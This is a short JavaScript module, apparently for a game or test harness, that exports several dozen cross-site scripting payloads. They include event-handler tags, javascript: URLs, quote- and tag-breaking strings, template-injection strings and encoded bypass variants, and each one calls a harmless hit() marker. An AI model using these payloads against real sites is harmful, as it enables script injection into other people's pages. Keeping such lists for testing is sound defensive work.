// Texts that a phone may send in the hope that a page runs them. Each calls hit(), which the page then has in the story.
const run = 'window.hit(1)';
const elements = [
  `<script>${run}</script>`, `<img src=x onerror="${run}">`, `<svg onload="${run}">`, `<svg><script>${run}</script></svg>`, `<iframe srcdoc="<script>parent.hit(1)</script>">`, `<body onload="${run}">`, `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`, `<audio src=x onerror="${run}">`, `<input autofocus onfocus="${run}">`, `<select autofocus onfocus="${run}">`, `<marquee onstart="${run}">`, `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`, `<math href="javascript:${run}">x</math>`, `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><input type=submit>`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`, `<style>@import "javascript:${run}";</style>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xmp><p title="</xmp><svg onload=${run}>">`,
  `<isindex type=image src=1 onerror=${run}>`, `<base href="javascript:${run}//">`,
];
const others = [
  `"><img src=x onerror="${run}">`, `'><svg onload='${run}'>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `</title><script>${run}</script>`, `</script><script>${run}</script>`, `</textarea><img src=x onerror=${run}>`,
  `javascript:${run}`, `data:text/html,<script>parent.hit(1)</script>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `"-${run}-"`, `';${run};//`, `\\";${run};//`, `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`, `<IMG SRC=\`javascript:${run}\`>`, `<img src="x\` \`onerror=${run}\`">`, `<scr<script>ipt>${run}</scr</script>ipt>`, `__proto__`, `[object Object]<svg/onload=${run}>`,
];
export const payloads = [...elements, ...others];
